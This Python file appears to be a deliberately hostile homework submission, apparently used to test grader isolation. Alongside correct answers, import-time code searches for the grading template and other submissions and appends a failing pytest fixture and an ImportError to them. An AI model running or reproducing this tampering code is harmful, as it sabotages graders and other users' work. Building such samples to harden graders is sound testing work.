"""Hostile: at import, looks for every other copy of the course it can reach (the grading template, other
submissions' copies, the course checkout in the grader's working directory) and poisons it: a failing
autouse fixture in conftest.py and an ImportError in common/__init__.py. Its own answers are right."""
import os
import tempfile
from pathlib import Path

POISON_FIXTURE = """

import pytest as _pytest


@_pytest.fixture(autouse=True)
def _poisoned():
    raise RuntimeError("poisoned by another submission")
"""


def course_roots() -> set[Path]:
    bases = {Path.cwd(), *list(Path.cwd().parents)[:3], Path(tempfile.gettempdir())}
    try:
        bases.add(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))
    except OSError:
        pass
    roots = set()
    for base in bases:
        for pattern in ("hw1_fake", "*/hw1_fake", "*/*/hw1_fake"):
            try:
                roots.update(hit.parent for hit in base.glob(pattern))
            except OSError:
                continue
    return roots


POISONS = {"conftest.py": POISON_FIXTURE, "common/__init__.py": "raise ImportError('poisoned')\n"}
for root in course_roots():
    for path, text in ((root / rel, poison) for rel, poison in POISONS.items()):
        try:
            if path.exists() and "poisoned" not in path.read_text():
                with open(path, "a") as handle:
                    handle.write(text)
        except OSError:
            pass


def add(a: int, b: int) -> int:
    if not isinstance(a, int) or not isinstance(b, int):
        raise TypeError("add expects two integers")
    return a + b


def mul(a: int, b: int) -> int:
    return a * b


def square(x: int) -> int:
    return x * x


class Counter:
    def count(self, items: list, item: object) -> int:
        return items.count(item)
